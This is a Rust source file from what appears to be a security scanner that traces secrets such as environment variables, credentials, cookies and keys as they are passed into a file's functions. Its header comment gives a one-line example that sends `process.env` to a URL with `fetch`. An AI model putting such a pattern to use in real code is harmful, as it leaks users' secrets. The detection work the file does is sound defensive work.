//! What the file's own functions are given, where that is something that must not get out.
//!
//! ```text
//!   const tell = (o) => fetch(URL, { body: o });        first walk:  `tell` is given the environment
//!   tell(process.env);                                  second walk: `o` is the environment, inside of `tell`
//! ```
//! A parameter is unknown as long as nobody has called its function; most calls come after the function. So calls are
//! remembered by the function's name, and where one of them hands over what matters, the second walk knows it. What a
//! name stands for inside of a function, it does not outside.

use std::borrow::Cow;

use foldhash::{HashMap, HashSet};

use super::{
    reduce,
    walk::{Item, Walk},
};
use crate::guard::{
    fact::Fact,
    rules,
    syntax::kinds::{Field, Kind},
    value::{Marks, Shape, Value},
};

/// What is followed into functions.
const FOLLOWED: Marks = Marks::ENVIRONMENT
    .with(Marks::CREDENTIAL)
    .with(Marks::COOKIE)
    .with(Marks::KEYS)
    .with(Marks::PASSWORD)
    .with(Marks::OWNED)
    .with(Marks::LISTED)
    .with(Marks::DOUBT)
    .with(Marks::FORM);
/// Functions of a file that are remembered; past that, nobody could say what is handed to whom.
const FUNCTIONS_MAX: usize = 4096;
/// Bytes of the name of one that is handed on.
const NAME_BYTES_MAX: usize = 64;
/// Parameters of one that are remembered.
const PARAMETERS_MAX: usize = 8;

#[derive(Default)]
pub(super) struct Given<'s> {
    calls: HashMap<&'s str, Vec<Value>>,
    /// There are more of them than are remembered.
    full: bool,
    /// Names of functions that are members of something.
    pub methods: HashSet<&'s str>,
    /// Where the arguments of calls begin whose functions are handed texts in doubt.
    pub callbacks: HashSet<usize>,
    /// And the marks of those texts.
    pub doubt: Marks,
}

impl<'s> Given<'s> {
    /// Whether it was known before that a function is handed something that is in doubt.
    pub fn knows(&self, name: &str) -> bool {
        self.calls.get(name).is_some_and(|given| given.iter().any(|value| value.all_marks().has(Marks::DOUBT)))
    }

    /// Remembers that a function is handed a value, first of all.
    pub fn hand(&mut self, name: &'s str, value: Value) {
        let word = |c: char| c.is_alphanumeric() || matches!(c, '_' | '$');
        if !name.is_empty()
            && name.len() <= NAME_BYTES_MAX
            && name.chars().all(word)
            && self.calls.len() < FUNCTIONS_MAX
        {
            let given = self.calls.entry(name).or_default();
            if given.is_empty() {
                given.push(value);
            }
        }
    }

    /// Whether a function of the file is given something that matters.
    /// `idle`: marks of which nothing can come.
    pub fn is_of_use(&self, names: &HashMap<Cow<'_, str>, Value>, idle: Marks) -> bool {
        self.calls.iter().any(|(name, given)| {
            let own = || names.get(*name).is_some_and(|value| matches!(value.shape, Shape::Function(_)));
            given.iter().any(|value| value.all_marks().without(idle).has(FOLLOWED))
                && (self.methods.contains(name) || own())
        })
    }
}

/// Remembers what a call hands over.
pub(super) fn give(walk: &mut Walk<'_, '_>, callee: &Item, args: &Value) {
    if !args.marks.has(FOLLOWED) || !matches!(callee.kind, Kind::Ident | Kind::Member) {
        return;
    }
    let name = walk.span(callee);
    let name = name.rsplit('.').next().unwrap_or(name);
    if walk.given.calls.len() >= FUNCTIONS_MAX && !walk.given.calls.contains_key(name) {
        if !std::mem::replace(&mut walk.given.full, true) {
            walk.tell(Fact::Plain {
                rule: &rules::UNREADABLE,
                what: "more functions are given secrets than are followed",
            });
        }
        return;
    }
    let given = walk.given.calls.entry(name).or_default();
    for (at, arg) in args.as_list().unwrap_or_default().iter().take(PARAMETERS_MAX).enumerate() {
        if given.len() <= at {
            given.push(Value::UNKNOWN);
        }
        if arg.all_marks().has(FOLLOWED) {
            given[at] = arg.clone();
        }
    }
}

/// Gives the parameters of a function what its calls hand over.
pub(super) fn receive(walk: &mut Walk<'_, '_>, parameters: &[Item]) {
    if walk.given.calls.is_empty() && walk.given.callbacks.is_empty() {
        return;
    }
    let mut given = name(walk).and_then(|name| walk.given.calls.get(name)).cloned().unwrap_or_default();
    if is_callback(walk) {
        given.resize(PARAMETERS_MAX, Value::unknown(walk.given.doubt));
    }
    let own = parameters.first().is_some_and(|first| matches!(walk.span(first), "self" | "cls"));
    for (parameter, value) in parameters.iter().skip(usize::from(own)).zip(given) {
        if !value.all_marks().has(FOLLOWED) {
            continue;
        }
        let names = reduce::pattern(walk, parameter);
        // `...all` and `*all` are not followed.
        if names.shape == Shape::Unknown && value.all_marks().has(Marks::DOUBT) {
            walk.tell(Fact::Reaches { path: "", marks: value.all_marks() });
        }
        if let Some(name) = names.as_text().map(str::to_owned) {
            let before = walk.names.remove(name.as_str());
            if let Some(function) = walk.loops.iter_mut().rev().find(|around| around.is_function) {
                function.shadowed.push((name, before));
            }
        }
        reduce::bind_pattern(walk, &names, value, 0);
    }
}

/// Whether the function whose parameters are being read stands among the arguments of a call that hands it texts in doubt.
fn is_callback(walk: &Walk<'_, '_>) -> bool {
    let mut around = walk.frames.iter().rev().skip_while(|frame| frame.kind == Kind::Parameters);
    let function = around.next().is_some_and(|frame| frame.kind == Kind::Function);
    let arguments = around.next().filter(|frame| frame.kind == Kind::Arguments);
    function && arguments.is_some_and(|frame| walk.given.callbacks.contains(&frame.start))
}

/// The name of the function whose parameters are being read: its own, or what it is assigned to.
fn name<'s>(walk: &Walk<'s, '_>) -> Option<&'s str> {
    let mut around = walk.frames.iter().rev();
    let function = around.next().filter(|frame| frame.kind == Kind::Function)?;
    let own = walk.items.get(function.base..)?.iter().find(|item| item.field == Field::Name);
    let named = match own {
        Some(own) => own,
        None => {
            let holder = around.next().filter(|it| matches!(it.kind, Kind::Declare | Kind::Assign | Kind::Pair))?;
            walk.items.get(holder.base)?
        }
    };
    let name = walk.span(named);
    Some(name.rsplit('.').next().unwrap_or(name))
}

/// What the names of parameters stood for outside of their function, they stand for again.
pub(super) fn give_back(walk: &mut Walk<'_, '_>, shadowed: Vec<(String, Option<Value>)>) {
    for (name, before) in shadowed.into_iter().rev() {
        match before {
            Some(value) => drop(walk.names.insert(Cow::Owned(name), value)),
            None => drop(walk.names.remove(name.as_str())),
        }
    }
}
